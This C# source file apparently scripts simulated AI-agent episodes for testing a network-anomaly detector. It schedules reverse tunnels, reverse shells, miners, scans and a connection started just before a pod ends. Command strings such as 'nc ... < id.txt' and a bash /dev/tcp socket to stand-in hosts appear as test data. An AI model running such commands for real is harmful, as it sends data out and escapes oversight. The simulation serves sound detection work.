// SPDX-License-Identifier: Apache-2.0
using FwCorrelate.Simulation.Agents;
using FwCorrelate.Simulation.World;
using static NodaTime.Duration;

namespace FwCorrelate.Simulation.Rome;

/// <summary>What agents do that stands out, wanted or not, and when: the plan of every episode.</summary>
/// <remarks>No act comes before step 3, 30 minutes into the log, except the one whose connection runs when the log begins.</remarks>
internal sealed class RomeActs(SimulatedWorld world)
{
    private readonly RomeTrespasses _trespasses = new(world);

    public static SimulatedTask SshTask { get; } = new(
        "git-0007", "Clone ssh://git@192.0.2.22/team/fixtures.git (git.example.org) and make its tests pass.");

    /// <summary>The plan of the episode in a slot of a host (a worker, <c>pod</c>, or one of the pods that stay) in a step.</summary>
    public EpisodePlan PlanOf(int step, string host, int slot) => (step, host, slot) switch
    {
        (-1, "w3", 0) => At(4, _trespasses.TunnelBeforeTheLog()),
        (3, "w1", 0) => At(5, _trespasses.ReverseTunnel()),
        (3, "w2", 1) => At(
            4, Refused("curl -sS -m 4 telnet://203.0.113.120:25", new("203.0.113.120", 25), Disposition.RejectedAtInterface)),
        (4, "pod", 0) => At(7, _trespasses.Sweep()),
        (4, "w4", 0) => At(6, _trespasses.MinerByName()),
        (5, "warm", 0) => _trespasses.MinerByScript(),
        (6, "w1", 1) => At(5, _trespasses.NetworkScan()),
        (7, "w1", 0) => At(6, Refused("python3 tools/upload.py build.log", new("203.0.113.123", 25), Disposition.RejectedAtInterface)),
        (7, "pod", 0) => At(6, TwinsThatNameIt()),
        (8, "w3", 1) => At(5, _trespasses.BlockedMiner()),
        (9, "w4", 1) => At(4, Refused("nc -w 3 203.0.113.121 5555 < /dev/null", new("203.0.113.121", 5555), Disposition.DroppedAtBorder)),
        (10, "pod", 1) => At(6, TwinsThatDoNot()),
        (11, "w1", 0) => At(5, _trespasses.ReverseShell()),
        (12, "pod", 1) => At(4, Refused("curl -m 3 http://203.0.113.122:4444/p", new("203.0.113.122", 4444), Disposition.DroppedAtBorder)),
        (6, "w2", 0) => At(3, WantedSsh("git clone git@git.example.org:team/fixtures.git")),
        (10, "w2", _) => At(3, WantedSsh("ssh -T git@192.0.2.22")),
        _ when IsSshTask(step, host, slot) => At(2, WantedSsh("git clone ssh://git@192.0.2.22/team/fixtures.git")),
        _ => EpisodePlan.Everyday,
    };

    /// <summary>Whether the episode's task asks for git over SSH.</summary>
    public static bool IsSshTask(int step, string host, int slot) =>
        (step, host, slot) is (5, "w3", 0) or (6, "w4", 1) or (6, "w2", 0) or (10, "w2", _);

    /// <summary>Starts something shortly before its pod ends; the alert comes when the next pod has the address.</summary>
    /// <param name="plays">False for a rehearsal without effect.</param>
    public EpisodePlan HandoverPlan(bool plays) => At(7, new AgentCommand("sh ./tools/start.sh", plays ? Start : null, FromSeconds(16)));

    private void Start(SimulatedCall call) => world.OpenBy(
        call, "F", new Endpoint("198.51.100.64", 5555),
        Traffic.LongLived(call.Start + FromSeconds(4), call.End, FromSeconds(5), 110, 120, closes: false),
        c => c.ReportedFor(RomeNetwork.AbnormalConnection, 41));

    private AgentCommand Refused(string command, Endpoint to, Disposition disposition) => new(
        command,
        call => world.OpenBy(
            call, "H", to, Traffic.Unanswered(call.Start + FromMilliseconds(310), 2), c => c with { Disposition = disposition }),
        FromMilliseconds(4_200));

    private AgentCommand WantedSsh(string command) => new(
        command,
        call => world.OpenBy(
            call, "D", RomeNetwork.PublicGit, Traffic.Exchange(call.Start + FromMilliseconds(260), FromSeconds(3), 9_000, 840_000),
            c => c.ReportedFor(RomeNetwork.AbnormalConnection, 3) with { Application = "SSH", Domain = "git.example.org" },
            "the task asked for it"),
        FromSeconds(6));

    private AgentCommand[] TwinsThatNameIt()
    {
        var to = new Endpoint("198.51.100.61", 4444);
        return
        [
            Twin("nc -w 4 198.51.100.61 4444 < id.txt", to, 500),
            Twin("timeout 5 bash -c 'exec 3<>/dev/tcp/198.51.100.61/4444; cat <&3'", to, 700),
        ];
    }

    /// <summary>Only the first of the two connects.</summary>
    private AgentCommand[] TwinsThatDoNot() =>
    [
        Twin("python3 check_a.py", new Endpoint("198.51.100.62", 5555), 900),
        new AgentCommand("python3 check_b.py", null, FromSeconds(5)),
    ];

    private AgentCommand Twin(string command, Endpoint to, int afterMilliseconds) => new(
        command,
        call => world.OpenBy(
            call, "K", to, Traffic.Exchange(call.Start + FromMilliseconds(afterMilliseconds), FromSeconds(2), 300, 700),
            note: "two calls of one turn"),
        FromSeconds(5));

    private static EpisodePlan At(int turn, params AgentCommand[] commands) => new EpisodePlan().At(turn, commands);
}
